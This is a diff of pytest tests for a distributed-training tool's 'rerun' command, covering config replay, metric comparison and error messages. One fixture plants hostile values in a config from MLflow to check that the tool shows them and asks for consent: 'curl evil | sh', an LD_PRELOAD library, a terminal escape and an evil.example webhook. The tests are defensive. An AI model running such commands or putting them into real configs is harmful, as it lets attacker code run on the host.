@@ -2,29 +2,37 @@
 
 from __future__ import annotations
 
+import hashlib
+import io
 import json
 import os
 import re
 import shutil
 import signal
+import sys
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
-from command_line import Cli
+import yaml
+from command_line import Cli, one_line
 
+from hpcdist.cli import rerun
 from hpcdist.config.written import read_stored
 from hpcdist.errors import UserMistake
+from hpcdist.host.files import read_json, write_json
+from hpcdist.host.machine import num_cores
 from hpcdist.review.description import describe_sweep, read_sweep_facts
 from hpcdist.run.folder import Request, RunDir, State
-from hpcdist.run.records import parameters
+from hpcdist.run.records import parameters, read_rerun
+from hpcdist.run.snapshot import CodeSource, code_of
 from hpcdist.run.sweeps import SweepDir
 from hpcdist.supervisor import local
-
-#: These tests may start processes.
-pytestmark = pytest.mark.processes
+from hpcdist.tracking import recorded_run, sync_runs
+from hpcdist.tracking.journal import JournalWriter
+from hpcdist.tracking.recorded_run import RecordedRun
 
 
 @pytest.fixture
@@ -48,6 +56,7 @@ def cells(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[RunDir], State
 SWEEP = ("run", "ddp_digits", "name=tune", "--sweep", "seed=1,2,3", "--sweep", "optim.lr=0.1")
 
 
+@pytest.mark.processes
 def test_dry_run_of_a_sweep_shows_its_cells_and_writes_nothing(hpcdist: Cli) -> None:
     result = hpcdist(*SWEEP, "--dry-run")
     assert (result.code, result.err) == (0, "")
@@ -57,6 +66,7 @@ def test_dry_run_of_a_sweep_shows_its_cells_and_writes_nothing(hpcdist: Cli) -> 
     assert os.listdir() == []
 
 
+@pytest.mark.processes
 def test_sweep_continues_after_a_failed_cell(hpcdist: Cli, cells: dict[str, Callable[[RunDir], State]]) -> None:
     swept = (*SWEEP[:4], "optim.lr=0.1", "--sweep", "seed=1,2,3")
     cells["seed_2"] = lambda run: State(status="failed", reason="a reason")
@@ -72,6 +82,7 @@ def test_sweep_continues_after_a_failed_cell(hpcdist: Cli, cells: dict[str, Call
     assert "closed the parent run" not in result.out
 
 
+@pytest.mark.processes
 def test_sweep_continues_after_a_rejected_cell(hpcdist: Cli, cells: dict[str, Callable[[RunDir], State]]) -> None:
     def rejects(run: RunDir) -> State:
         raise UserMistake("another process holds it")
@@ -83,6 +94,7 @@ def test_sweep_continues_after_a_rejected_cell(hpcdist: Cli, cells: dict[str, Ca
     assert result.code == 1
 
 
+@pytest.mark.processes
 @pytest.mark.parametrize("in_cell", [True, False], ids=["in a cell", "between cells"])
 def test_ctrl_c_ends_the_sweep(hpcdist: Cli, cells: dict[str, Callable[[RunDir], State]], in_cell: bool) -> None:
     def stopped(run: RunDir) -> State:
@@ -101,6 +113,7 @@ def test_ctrl_c_ends_the_sweep(hpcdist: Cli, cells: dict[str, Callable[[RunDir],
     assert "closed the parent run" in result.out
 
 
+@pytest.mark.processes
 def test_sweep_continues_after_a_stopped_cell(hpcdist: Cli, cells: dict[str, Callable[[RunDir], State]]) -> None:
     def stopped(run: RunDir) -> State:
         run.attempt(1).send_request(Request(cause="user", by="`hpcdist stop` by ada"))
@@ -112,6 +125,7 @@ def test_sweep_continues_after_a_stopped_cell(hpcdist: Cli, cells: dict[str, Cal
     assert result.code == 0
 
 
+@pytest.mark.processes
 def test_sweep_of_a_script_shows_the_metric_that_its_cells_log(
     hpcdist: Cli, cells: dict[str, Callable[[RunDir], State]]
 ) -> None:
@@ -147,6 +161,7 @@ def test_sweep_of_a_script_shows_the_metric_that_its_cells_log(
     assert {cell.status for cell in read_sweep_facts(sweep, sweep.read_state()).cells} >= {"missing"}
 
 
+@pytest.mark.processes
 def test_submitted_sweep_is_a_job_array(hpcdist: Cli) -> None:
     result = hpcdist("submit", *SWEEP[1:], "--cluster", "devcluster", "--array-parallelism", "2", "--dry-run")
     assert (result.code, result.err) == (0, "")
@@ -156,3 +171,251 @@ def test_submitted_sweep_is_a_job_array(hpcdist: Cli) -> None:
     assert os.listdir() == []
     result = hpcdist("submit", *SWEEP[1:4], "seed=1", "--cluster", "devcluster", "--dry-run")
     assert "--array" not in result.out, "a single cell is an ordinary job"
+
+
+# --- `hpcdist rerun` with a supervisor that starts no ranks: it logs values instead.
+
+
+Make = Callable[..., RunDir]
+PATCH = b"+x\n"
+LOSSES = [1.0, 0.5, 0.25]
+
+
+def log(run: RunDir, losses: list[float]) -> None:
+    with JournalWriter(run.journal) as journal:
+        for step, loss in enumerate(losses, 1):
+            journal.log({"train/loss": loss, "train/samples_per_s": loss}, step)
+
+
+@pytest.fixture
+def first(make: Make) -> RunDir:
+    """A finished run of two ranks with three steps."""
+    run = make("first", "seed=3", "tracking.register_as=model", status="finished", attempt=1, world_size=2)
+    log(run, LOSSES)
+    return run
+
+
+@pytest.fixture
+def trains(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
+    """Replace the supervisor: it logs `losses` and ends with `state`. Nothing is uploaded."""
+    seen: dict[str, Any] = {"losses": LOSSES, "state": State(status="finished", attempt=1), "uploaded": []}
+
+    def supervise(run: RunDir, config: Any, plan: Any, report: Any, env: Any, *, tracking_uri: str) -> State:
+        seen.update(run=run, config=config)
+        run.new_attempt()
+        log(run, seen["losses"])
+        write_json(run.attempt(1).path / "rank-00000.beat.json", {"step": len(seen["losses"])})
+        run.write_state(seen["state"])
+        state: State = seen["state"]
+        return state
+
+    monkeypatch.setattr(local, "supervise", supervise)
+    monkeypatch.setattr("hpcdist.host.log_files.configure", lambda: None)
+    monkeypatch.setattr(sync_runs, "sync_run", lambda run, env: seen["uploaded"].append(run.name))
+    return seen
+
+
+@pytest.mark.processes
+def test_a_rerun_repeats_the_config_and_the_number_of_ranks(
+    hpcdist: Cli, first: RunDir, trains: dict[str, Any]
+) -> None:
+    result = hpcdist("rerun", "first")
+    assert (result.code, result.err) == (0, "")
+    made, config = trains["run"], trains["config"]
+    assert made.path.parent == first.path.parent
+    assert made.name.startswith("first-rerun-")
+    assert (config.seed, config.launch.num_ranks, config.tracking.register_as) == (3, 2, None)
+    lines = result.out.splitlines()
+    assert lines[0] == f"repeats exp/first as exp/{made.name}"
+    assert lines[2] == "config: as recorded, except tracking.register_as=null launch.num_ranks=2"
+    assert lines[-1] == "no value differs: 3 values of 1 metrics at 3 steps"
+    assert "not compared, since they measure time or hardware: train/samples_per_s" in result.out
+    record = read_rerun(made)
+    assert record is not None
+    assert (record.name, record.folder, record.missing) == ("first", str(first.path), [])
+    assert record.result == lines[-1]
+    assert trains["uploaded"] == [made.name]
+    assert hpcdist("rerun", made.name).out.startswith(f"repeats exp/{made.name} as exp/first-rerun-"), (
+        "no second suffix"
+    )
+
+
+@pytest.mark.processes
+def test_a_difference_is_reported_and_changes_the_exit_code(
+    hpcdist: Cli, first: RunDir, trains: dict[str, Any]
+) -> None:
+    trains["losses"] = [1.0, 0.5, 0.125]
+    result = hpcdist("rerun", "first", "seed=4")
+    assert result.code == 1
+    assert "launch.num_ranks=2 seed=4" in result.out
+    assert result.out.splitlines()[-1] == (
+        "the first difference is at step 3: train/loss was 0.25, is 0.125; 1 of 3 values of 1 metrics at 3 steps differ"
+    )
+    assert trains["config"].seed == 4
+    again = hpcdist("rerun", trains["run"].name, "--compare", "--tolerance", "0.5")
+    assert (again.code, again.out.splitlines()[-1]) == (0, "no value differs: 3 values of 1 metrics at 3 steps")
+    assert "values with a relative difference of at most 0.5 count as equal (--tolerance)" in again.out
+    ignoring = hpcdist("rerun", trains["run"].name, "--compare", "--ignore", "train/*")
+    assert (ignoring.code, ignoring.out.splitlines()[-1]) == (
+        1,
+        "nothing was compared: the runs have no common values",
+    )
+
+
+@pytest.mark.processes
+def test_a_rerun_of_some_steps_pauses(hpcdist: Cli, first: RunDir, trains: dict[str, Any]) -> None:
+    trains["losses"], trains["state"] = LOSSES[:2], State(status="stopped", attempt=1)
+    result = hpcdist("rerun", "first", "--steps", "2")
+    assert result.code == 0
+    assert trains["config"].stop.pause_at_step == 2
+    assert trains["config"].stop.max_steps is None, "which would change the schedule"
+    assert result.out.splitlines()[-1] == "no value differs: 2 values of 1 metrics at 2 steps"
+
+
+@pytest.mark.processes
+def test_a_failed_rerun_names_the_command_that_compares(hpcdist: Cli, first: RunDir, trains: dict[str, Any]) -> None:
+    trains["losses"], trains["state"] = LOSSES[:2], State(status="failed", reason="rank 1 was killed", attempt=1)
+    result = hpcdist("rerun", "first")
+    assert result.code == 1
+    command = f"`hpcdist rerun {trains['run'].name} --compare`"
+    assert result.out.splitlines()[-2:] == [
+        "failed: rank 1 was killed",
+        f"the rerun did not end as planned: {command} compares its values until its end",
+    ]
+    again = hpcdist("rerun", trains["run"].name, "--compare")
+    assert (again.code, again.out.splitlines()[-1]) == (0, "no value differs: 2 values of 1 metrics at 2 steps")
+    assert "the rerun is failed: values after its last step are not compared" in again.out
+
+
+@pytest.mark.processes
+def test_a_dry_run_writes_nothing(hpcdist: Cli, first: RunDir, trains: dict[str, Any]) -> None:
+    result = hpcdist("rerun", "first", "--dry-run")
+    assert result.code == 0
+    assert [path.name for path in first.path.parent.iterdir()] == ["first"]
+    assert "run" not in trains
+
+
+@pytest.mark.processes
+def test_what_cannot_be_restored_is_printed_and_recorded(hpcdist: Cli, first: RunDir, trains: dict[str, Any]) -> None:
+    facts = read_json(first.environment) or {}
+    cores = 4 * num_cores()
+    changed = {**facts, "python": "3.1", "cores": cores, "image": "hpcdist:old", "image_digest": "sha256:1a"}
+    write_json(first.environment, changed)
+    result = hpcdist("rerun", "first", "--with-current-code")
+    assert f"launch.num_threads={cores // 2}" in result.out
+    missing = [line.removeprefix("not restored: ") for line in result.out.splitlines() if line.startswith("not rest")]
+    assert missing == [
+        "the code: this is that of the current folder",
+        "the image hpcdist:old (sha256:1a): the ranks start outside of it",
+        f"Python 3.1 in the run, {facts['python']} here",
+    ]
+    record = read_rerun(trains["run"])
+    assert record is not None
+    assert record.missing == missing
+
+
+@pytest.mark.processes
+def test_user_errors_are_one_line(hpcdist: Cli, first: RunDir, trains: dict[str, Any], make: Make) -> None:
+    assert one_line(hpcdist("rerun", "none")).startswith("no run 'none' under ")
+    assert one_line(hpcdist("rerun", "first", "--compare")) == (
+        "run first is not a rerun: `hpcdist compare` compares any runs"
+    )
+    assert one_line(hpcdist("rerun", "first", "--begin", "20:00")) == (
+        "--dependency and --begin need Slurm, and this run is repeated on this machine"
+    )
+    write_json(first.environment, {**(read_json(first.environment) or {}), "code": {"copied": True}})
+    assert "is damaged: it has no cwd" in one_line(hpcdist("rerun", "first"))
+    first.path.chmod(0o777)
+    assert "is writable by group or others" in one_line(hpcdist("rerun", "first"))
+
+
+@pytest.mark.processes
+def test_a_rerun_that_runs_or_whose_original_is_gone_cannot_be_compared(
+    hpcdist: Cli, first: RunDir, trains: dict[str, Any]
+) -> None:
+    assert hpcdist("rerun", "first").code == 0
+    made = trains["run"]
+    made.write_state(replace(made.read_state(), status="running"))
+    assert one_line(hpcdist("rerun", made.name, "--compare")).startswith(f"run {made.name} is running: compare it when")
+    made.write_state(replace(made.read_state(), status="finished"))
+    first.path.rename(first.path.with_name("moved"))
+    assert one_line(hpcdist("rerun", made.name, "--compare")) == (
+        f"the original of run {made.name} is gone: {first.path} does not exist"
+    )
+
+
+@pytest.mark.processes
+def test_code_without_the_trainer_is_an_error_that_leaves_no_folder(
+    hpcdist: Cli, make: Make, trains: dict[str, Any], tmp_path: Path
+) -> None:
+    (tmp_path / "train.py").write_text("pass\n")
+    run = make("script", f"trainer={{script: [{tmp_path}/train.py]}}", status="finished", world_size=2)
+    assert (run.code / "train.py").is_file()
+    (tmp_path / "train.py").unlink()
+    assert hpcdist("rerun", "script").code == 1, "the copy has the script; the rerun logs other values than the run"
+    (run.code / "train.py").unlink()
+    before = sorted(run.path.parent.iterdir())
+    assert one_line(hpcdist("rerun", "script")) == f"trainer.script: no such file: {tmp_path}/train.py"
+    assert sorted(run.path.parent.iterdir()) == before
+
+
+@pytest.fixture
+def from_mlflow(first: RunDir, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The run is in MLflow alone, whose editor has changed its config. Returns the file of the config."""
+    config = tmp_path / "scratch" / "config.yaml"
+    config.parent.mkdir()
+    values = yaml.safe_load(first.config.read_text())
+    values["trainer"]["script"] = ["evil.py", "\x1b[2J"]
+    values["cluster"]["setup"] = ["curl evil | sh"]
+    values["launch"]["env"] = {"LD_PRELOAD": "/tmp/evil.so"}
+    values["notify"]["webhook"] = "https://evil.example/x"
+    config.write_text(yaml.safe_dump(values, sort_keys=False))
+    environment = read_json(first.environment) or {}
+
+    def recorded(*_: object) -> RecordedRun:
+        code = code_of(environment, first.environment)
+        return RecordedRun(
+            name="first", experiment="exp", config=config, environment=environment, code=code, patch=PATCH,
+            run_id="1a" * 16, uri="",
+        )  # fmt: skip
+
+    monkeypatch.setattr(recorded_run, "find_recorded", recorded)
+    monkeypatch.setattr(rerun, "_code", lambda found, _: CodeSource(recorded=found.code, patch=found.patch, text="t"))
+    monkeypatch.setattr(rerun, "run_here", lambda *_, **__: pytest.fail("started"))
+    return config
+
+
+@pytest.mark.processes
+def test_what_mlflow_would_execute_is_shown_and_needs_consent(
+    hpcdist: Cli, from_mlflow: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    result = hpcdist("rerun", "1a" * 16)
+    assert one_line(result).startswith(f"the record of run {'1a' * 16} comes from MLflow, not from its run folder")
+    shown = [line for line in result.out.splitlines() if line.startswith("  ") and "=" in line]
+    assert {
+        '  trainer.script=["evil.py", "\\u001b[2J"]',
+        '  launch.env.LD_PRELOAD="/tmp/evil.so"',
+        '  cluster.setup=["curl evil | sh"]',
+        '  notify.webhook="https://evil.example/x"',
+    } <= set(shown)
+    assert not [line for line in shown if "hang_timeout_s" in line], "the default"
+    patch = f"code.patch: sha256 {hashlib.sha256(PATCH).hexdigest()}, 1 lines; until you answer, it is"
+    assert f"  {patch} {from_mlflow.parent}/code.patch.txt" in result.out.splitlines()
+    assert hpcdist("rerun", "1a" * 16, "--dry-run").code == 0
+    monkeypatch.setattr(rerun, "run_here", lambda *_, **__: 7)
+    assert hpcdist("rerun", "1a" * 16, "--yes").code == 7
+    for answer, code in (("n", 130), ("", 130), ("y", 7)):
+        monkeypatch.setattr(sys, "stdin", io.StringIO(f"{answer}\n"))
+        monkeypatch.setattr(rerun.sys.stdin, "isatty", lambda: True)  # type: ignore[attr-defined]
+        monkeypatch.setattr(rerun.sys.stdout, "isatty", lambda: True)  # type: ignore[attr-defined]
+        assert hpcdist("rerun", "1a" * 16).code == code
+
+
+@pytest.mark.processes
+@pytest.mark.parametrize(("tag", "message"), [(10**12, "launch.num_ranks must be <= 1024, got 1000000000000")])
+def test_the_number_of_ranks_of_mlflow_is_bounded(
+    hpcdist: Cli, from_mlflow: Path, monkeypatch: pytest.MonkeyPatch, tag: int, message: str
+) -> None:
+    found = recorded_run.find_recorded("", Path(), {}, Path())
+    monkeypatch.setattr(recorded_run, "find_recorded", lambda *_: replace(found, world_size=tag))
+    assert message in one_line(hpcdist("rerun", "1a" * 16, "--yes"))
